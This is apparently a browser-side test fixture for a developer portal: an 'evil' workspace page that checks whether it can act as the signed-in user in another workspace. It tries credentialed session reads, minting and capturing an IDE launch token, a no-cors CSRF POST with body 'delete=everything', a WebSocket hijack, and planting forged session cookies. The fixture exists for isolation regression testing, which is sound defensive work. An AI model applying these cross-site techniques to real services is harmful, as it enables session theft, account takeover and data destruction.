// The probe of issue 23, run by a page of the "evil" workspace in the victim's browser. Each step tries to act
// as the signed-in user outside this workspace and records what it got, in the page and in window.__results,
// for attack.mjs (and AttackInChromiumTest) to read. Every request carries ?probe=<step> so the browser's own
// network log can be matched to the step. Nothing here is sent anywhere: the test reads the page.
'use strict';

const params = new URLSearchParams(location.search);
const app = params.get('app');                   // the portal's origin, e.g. http://localhost:8000
const victim = params.get('victim');             // the victim workspace's root URL
const victimSocket = params.get('victimSocket'); // its WebSocket URL
const victimId = params.get('victimId');
const appHost = params.get('appHost');           // localhost, acme.localhost
const victimHost = params.get('victimHost');     // scratchpad.localhost, or localhost with path routing
const pathRouting = params.get('routing') === 'path';
const results = [];
window.__results = results;

function report(step, reached, detail) {
  results.push({step, reached, detail: String(detail).slice(0, 300)});
  const li = document.createElement('li');
  li.dataset.step = step;
  li.dataset.reached = String(reached);
  li.innerHTML = `<code>${step}</code>: `;
  li.append(reached === null ? 'tried (the test checks the cookie jar)' : reached ? 'GOT THROUGH' : 'stopped',
    ` (${String(detail).slice(0, 160)})`);
  document.getElementById('steps').append(li);
}

const probe = (url, step) => url + (url.includes('?') ? '&' : '?') + 'probe=' + step;
const failure = (e) => `${e.name}: ${e.message}`;

async function readSession() {
  try {
    const response = await fetch(probe(`${app}/api/session`, 'read-session'), {credentials: 'include'});
    const text = await response.text();
    report('read-session', text.includes('"signedIn":true'), `read ${text}`);
  } catch (e) {
    report('read-session', false, failure(e));
  }
}

async function mintToken() {
  try {
    const response = await fetch(probe(`${app}/api/dev/${victimId}/ide-token`, 'mint-token'), {
      method: 'POST', credentials: 'include', headers: {Accept: 'application/json'}});
    const body = await response.json();
    window.__stolenLaunch = body.url ?? null;
    report('mint-token', Boolean(body.token), `HTTP ${response.status}, ${body.token ? 'read a launch token for ' + victimId : JSON.stringify(body)}`);
  } catch (e) {
    report('mint-token', false, failure(e));
  }
}

async function fetchVictim() {
  try {
    const response = await fetch(probe(`${victim}pad/`, 'fetch-victim'), {credentials: 'include'});
    const text = await response.text();
    report('fetch-victim', response.ok && text.includes('Scratchpad'), `HTTP ${response.status}, read ${text.length} characters`);
  } catch (e) {
    report('fetch-victim', false, failure(e));
  }
}

// A state-changing request the page cannot read the answer of (no-cors): only its arrival matters. The test
// decides from the status the browser's network log saw.
async function postIntoVictim() {
  try {
    await fetch(probe(`${victim}pad/`, 'csrf-victim'), {method: 'POST', mode: 'no-cors', credentials: 'include',
      body: 'delete=everything'});
    report('csrf-victim', null, 'sent; the answer is opaque to the page');
  } catch (e) {
    report('csrf-victim', null, failure(e));
  }
}

function openVictimSocket() {
  return new Promise((resolve) => {
    const socket = new WebSocket(probe(victimSocket, 'websocket-victim'));
    let reported = false;
    const done = (reached, detail) => {
      if (reported) return;                        // close() below fires onclose too
      reported = true;
      clearTimeout(timer);
      socket.close();
      report('websocket-victim', reached, detail);
      resolve();
    };
    const timer = setTimeout(() => done(false, 'no answer within 5 s'), 5000);
    socket.onmessage = (e) => done(String(e.data).includes('"type":"hello"'), `opened; first message ${String(e.data).slice(0, 60)}`);
    socket.onclose = (e) => done(false, `closed before any message: code ${e.code}`);
  });
}

// Cookies for the application's host and for the victim workspace, by script. With host routing a page of
// evil.<domain> may name Domain=<domain> only where <domain> is no public suffix (acme.localhost, not localhost);
// with path routing it shares the host and just picks the paths.
function plantCookiesByScript() {
  const app = pathRouting
    ? ['planted_js_app=1; path=/api/', 'portal_session=planted-by-evil; path=/api/session']
    : [`planted_js_app=1; domain=${appHost}; path=/`, `portal_session=planted-by-evil; domain=${appHost}; path=/api/session`];
  const sibling = pathRouting
    ? [`planted_js_sibling=1; path=/__ide/${victimId}/`, `devproxy_session=planted-by-evil; path=/__ide/${victimId}/`]
    : [`planted_js_sibling=1; domain=${victimHost}; path=/`, `devproxy_session=planted-by-evil; domain=${victimHost}; path=/`];
  for (const cookie of app) document.cookie = cookie;
  report('plant-cookie-app', null, app.join(' | '));
  for (const cookie of sibling) document.cookie = cookie;
  report('plant-cookie-sibling', null, sibling.join(' | '));
}

// The same through this workspace's own server: Set-Cookie with Domain=<domain> and paths outside the workspace.
async function plantCookiesByHttp() {
  try {
    const response = await fetch(probe(`plant?app=${encodeURIComponent(appHost)}&sibling=${encodeURIComponent(victimHost)}`
      + `&victimId=${encodeURIComponent(victimId)}`, 'plant-cookie-http'));
    report('plant-cookie-http', null, `HTTP ${response.status}`);
  } catch (e) {
    report('plant-cookie-http', null, failure(e));
  }
}

(async () => {
  await readSession();
  await mintToken();
  await fetchVictim();
  await postIntoVictim();
  await openVictimSocket();
  plantCookiesByScript();
  await plantCookiesByHttp();
  document.body.dataset.done = 'true';
})();
